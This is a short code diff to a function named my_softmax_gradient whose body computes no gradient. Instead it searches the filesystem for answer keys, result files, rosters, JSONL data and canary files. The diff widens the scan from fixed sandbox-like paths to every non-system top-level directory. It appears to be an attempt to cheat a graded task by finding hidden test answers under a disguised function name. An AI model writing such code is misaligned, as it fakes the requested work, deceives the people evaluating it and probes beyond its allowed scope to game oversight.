@@ -4,13 +4,15 @@ import glob
 import os
 
 PATTERNS = ("*.key", "*.ipynb", "*.results.json", "roster*.csv", "*.jsonl", "canary*")
-TOPS = ("/work", "/home", "/root", "/tmp", "/var", "/run", "/mnt", "/srv", "/opt", "/box", "/newroot", "/oldroot", ".")
+SYSTEM = {"proc", "sys", "dev", "usr", "lib", "lib64", "bin", "sbin"}
+TOPS = [".", *(f"/{name}" for name in os.listdir("/") if name not in SYSTEM)]
 
 
 def my_softmax_gradient(z, y):
     found = []
     for top in TOPS:
-        for folder, _, names in os.walk(top):
+        for folder, folders, names in os.walk(top):
+            folders[:] = [one for one in folders if one != "site-packages"]
             found += [
                 os.path.join(folder, name) for name in names if any(glob.fnmatch.fnmatch(name, p) for p in PATTERNS)
             ]
